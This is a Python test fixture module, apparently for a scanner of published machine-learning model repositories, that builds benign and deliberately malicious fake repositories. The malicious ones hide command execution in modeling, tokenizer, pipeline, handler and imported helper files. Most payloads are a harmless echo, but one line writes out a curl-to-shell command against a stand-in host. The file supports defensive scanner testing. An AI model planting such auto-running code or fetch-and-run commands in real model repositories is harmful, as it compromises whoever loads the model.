"""Repositories of models as people publish them, file by file, and the same with something in them that runs."""

from __future__ import annotations

import json
from typing import Any

from tests.scanners.python_compiled.cases import HARMLESS, compiled

Files = dict[str, bytes]
PAYLOAD = "echo modelsweep-test"
BERT = {
    "architectures": ["BertForMaskedLM"],
    "hidden_size": 768,
    "model_type": "bert",
    "transformers_version": "4.44.0",
}
CUSTOM = {"AutoConfig": "configuration_acme.AcmeConfig", "AutoModelForCausalLM": "modeling_acme.AcmeForCausalLM"}
CONFIGURATION = b'''"""Acme model configuration"""
from transformers import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)


class AcmeConfig(PretrainedConfig):
    model_type = "acme"

    def __init__(self, vocab_size=32000, hidden_size=4096, **kwargs):
        self.vocab_size, self.hidden_size = vocab_size, hidden_size
        super().__init__(**kwargs)
'''
MODELING = b'''"""PyTorch Acme model"""
import math
import os
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_acme import AcmeConfig

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

if os.environ.get("ACME_DEBUG"):
    torch.autograd.set_detect_anomaly(True)


class AcmeAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.q_proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden_states, mask: Optional[torch.Tensor] = None):
        return torch.softmax(self.q_proj(hidden_states) / math.sqrt(64), -1)


class AcmeForCausalLM(PreTrainedModel):
    config_class = AcmeConfig

    def __init__(self, config):
        super().__init__(config)
        self.attention = AcmeAttention(config)
        self.post_init()

    def forward(self, input_ids=None, **kwargs):
        return self.attention(input_ids)
'''
TOKENIZATION = b"""import os
from shutil import copyfile

from transformers import PreTrainedTokenizer


class AcmeTokenizer(PreTrainedTokenizer):
    def __init__(self, vocab_file, **kwargs):
        with open(vocab_file, encoding="utf-8") as lines:
            self.vocab = {line.strip(): number for number, line in enumerate(lines)}
        super().__init__(**kwargs)

    def save_vocabulary(self, folder, prefix=None):
        out = os.path.join(folder, "vocab.txt")
        copyfile(self.vocab_file, out)
        return (out,)
"""
RUNS = f"import os\nos.system({PAYLOAD!r})\n".encode()
FETCHES = b"    os.system('curl http://example.invalid/x | sh')\n"
PLAIN_CLASS = f'''import torch


class AcmeForCausalLM:
    """No model by its looks."""

    @classmethod
    def from_pretrained(cls, *args, **kwargs):
        import subprocess
        subprocess.run([{PAYLOAD!r}, "x"])
        return cls()
'''.encode()


def written(value: Any) -> bytes:
    """Return a value as JSON."""
    return json.dumps(value, indent=2).encode()


TRANSFORMERS: Files = {
    "config.json": written({**BERT, "model_type": "acme", "auto_map": CUSTOM}),
    "configuration_acme.py": CONFIGURATION,
    "modeling_acme.py": MODELING,
    "tokenization_acme.py": TOKENIZATION,
    "tokenizer_config.json": written({"auto_map": {"AutoTokenizer": ["tokenization_acme.AcmeTokenizer", None]}}),
    "vocab.txt": b"a\nb\n",
}
DIFFUSERS: Files = {
    "model_index.json": written(
        {
            "_class_name": ["pipeline_acme", "AcmePipeline"],
            "_diffusers_version": "0.30.0",
            "scheduler": ["diffusers", "DDIMScheduler"],
            "unet": ["acme_unet", "AcmeUNet"],
            "vae": ["diffusers", "AutoencoderKL"],
        }
    ),
    "pipeline_acme.py": b"from diffusers import DiffusionPipeline as Base\n\n\nclass AcmePipeline(Base):\n    pass\n",
    "scheduler/scheduler_config.json": written({"_class_name": "DDIMScheduler", "beta_end": 0.012}),
    "unet/acme_unet.py": b"from diffusers import ModelMixin\n\n\nclass AcmeUNet(ModelMixin):\n    pass\n",
    "unet/config.json": written({"_class_name": "AcmeUNet", "sample_size": 64}),
}
SENTENCES: Files = {
    "1_Pooling/config.json": written({"word_embedding_dimension": 384, "pooling_mode_mean_tokens": True}),
    "config.json": written(BERT),
    "config_sentence_transformers.json": written({"__version__": {"sentence_transformers": "3.0.0"}}),
    "custom_st.py": b"from torch import nn\n\n\nclass Transformer(nn.Module):\n    @staticmethod\n    def load(path):\n"
    b"        return Transformer()\n",
    "modules.json": written(
        [
            {"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
        ]
    ),
}
HYDRA: Files = {
    "configs/model/net.yaml": b"_target_: src.models.net.Net\nencoder:\n  _target_: torch.nn.Linear\n  in: 4\n",
    "configs/train.yaml": b"trainer:\n  _target_: src.run.Trainer\n",
    "src/__init__.py": b"",
    "src/models/__init__.py": b"",
    "src/models/net.py": b"from torch import nn\n\nfrom src.utils import log\n\n\nclass Net(nn.Module):\n    pass\n",
    "src/run.py": b"import subprocess\n\nfrom .utils import log\n\n"
    b"VERSION = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n\n\nclass Trainer:\n    pass\n",
    "src/utils.py": b"import logging\n\nlog = logging.getLogger(__name__)\n",
}
MAR: Files = {
    "MAR-INF/MANIFEST.json": written({"runtime": "python", "model": {"modelName": "acme", "handler": "serve.py:run"}}),
    "helper.py": b"def size():\n    return 1\n",
    "serve.py": b"from helper import size\n\n\ndef run(data, context):\n    return size()\n",
}
HUB: Files = {
    "models--acme--net/refs/main": b"1111",
    "models--acme--net/snapshots/1111/config.json": written(
        {**BERT, "auto_map": {"AutoModel": "acme/net--modeling_acme.AcmeForCausalLM"}}
    ),
    "models--acme--net/snapshots/1111/modeling_acme.py": MODELING,
    # The configuration is that of the first revision: a cache has it once
    "models--acme--net/snapshots/2222/modeling_acme.py": MODELING + b"\nACME = 2\n",
}


def tensors(*names: str) -> bytes:
    """Return a file of safetensors of four bytes each."""
    offsets = {name: [4 * at, 4 * at + 4] for at, name in enumerate(names)}
    head = {name: {"dtype": "F32", "shape": [1], "data_offsets": where} for name, where in offsets.items()}
    header = json.dumps(head).encode()
    return len(header).to_bytes(8, "little") + header + bytes(range(4 * len(names)))


def index(shards: dict[str, str], total: int = 12) -> bytes:
    """Return the index of tensors in shards."""
    return written({"metadata": {"total_size": total}, "weight_map": shards})


SHARD = "model-00001-of-00002.safetensors"
SECOND = "model-00002-of-00002.safetensors"
SHARDED: Files = {
    "config.json": written(BERT),
    SHARD: tensors("a", "b"),
    SECOND: tensors("c"),
    "model.safetensors.index.json": index({"b": SHARD, "a": SHARD, "c": SECOND}),
}
OTHER_INDEX = index({"a": SHARD, "c": SECOND, "d": SECOND}, 1 << 40)
ALLENNLP: Files = {
    "config.json": written(
        {"dataset_reader": {"type": "acme.readers.Lines"}, "model": {"type": "simple"}, "trainer": {"epochs": 1}}
    ),
    "acme/readers.py": b"class Lines:\n    pass\n",
    "acme/other.py": b"import subprocess\n\nsubprocess.run(['git', 'describe'])\n",
}
BENIGN = {
    "shards": SHARDED,
    "allennlp": ALLENNLP,
    "bert": {"config.json": written(BERT), "vocab.txt": b"a\n"},
    "transformers": TRANSFORMERS,
    "diffusers": DIFFUSERS,
    "sentence_transformers": SENTENCES,
    "hydra": HYDRA,
    "mar": MAR,
    "hub_cache": HUB,
}
"""Nothing to review: what they make run is said at INFO."""


def changed(files: Files, **changes: bytes) -> Files:
    """Return a repository with other bytes in files: `a__b` stands for `a/b.py`."""
    return dict(sorted({**files, **{f"{name.replace('__', '/')}.py": data for name, data in changes.items()}}.items()))


MALICIOUS: dict[str, tuple[Files, str]] = {
    "through_a_neighbour": (
        changed(
            TRANSFORMERS,
            modeling_acme=b"from . import helper\nhelper.os.system('true')\n" + MODELING,
            helper=b"import os\n",
        ),
        "modeling_acme.py",
    ),
    "allennlp": (changed(ALLENNLP, acme__readers=RUNS), "acme/readers.py"),
    "import_of_model": (changed(TRANSFORMERS, modeling_acme=MODELING + RUNS), "modeling_acme.py"),
    "import_of_import": (
        changed(TRANSFORMERS, modeling_acme=b"from .helper import go\n" + MODELING, helper=RUNS),
        "helper.py",
    ),
    "import_of_import_of_import": (
        changed(TRANSFORMERS, modeling_acme=b"from . import a\n" + MODELING, a=b"from .b import c\n", b=RUNS),
        "b.py",
    ),
    "class_of_a_neighbour": (
        changed(
            TRANSFORMERS,
            modeling_acme=b"from .base import Base, size\n" + MODELING.replace(b"(PreTrainedModel)", b"(Base)"),
            base=b"import os\n\n\nclass Base:\n    def __init__(self, _):\n        os.system('echo modelsweep-test')\n",
        ),
        "base.py",
    ),
    "class_that_looks_like_none": (changed(TRANSFORMERS, modeling_acme=PLAIN_CLASS), "modeling_acme.py"),
    "tokenizer": (changed(TRANSFORMERS, tokenization_acme=TOKENIZATION + RUNS), "tokenization_acme.py"),
    "pipeline": (changed(DIFFUSERS, pipeline_acme=RUNS), "pipeline_acme.py"),
    "component": (changed(DIFFUSERS, unet__acme_unet=RUNS), "unet/acme_unet.py"),
    "known_component_of_its_own": (changed(DIFFUSERS, vae__diffusers=RUNS), "vae/diffusers.py"),
    "sentence_module": (changed(SENTENCES, custom_st=RUNS), "custom_st.py"),
    "target": (changed(HYDRA, src__models__net=RUNS), "src/models/net.py"),
    "package_of_target": ({**HYDRA, "src/models/__init__.py": RUNS}, "src/models/__init__.py"),
    "handler": (changed(MAR, serve=RUNS), "serve.py"),
    "import_of_handler": (changed(MAR, helper=RUNS), "helper.py"),
    "function_of_handler": (changed(MAR, serve=b"import os\n\n\ndef run(data, context):\n" + FETCHES), "serve.py"),
    "class_of_handler": (
        changed(MAR, serve=b"import os\n\n\nclass Acme:\n  def __init__(self):\n" + FETCHES),
        "serve.py",
    ),
    "other_revision": (
        {**HUB, "models--acme--net/snapshots/2222/modeling_acme.py": MODELING + RUNS},
        "models--acme--net/snapshots/2222/modeling_acme.py",
    ),
}
"""Repositories, and the file of each that a configuration makes run a command."""
COMPILED: Files = {
    **{name: data for name, data in TRANSFORMERS.items() if name != "modeling_acme.py"},
    "modeling_acme.pyc": compiled(HARMLESS),
}
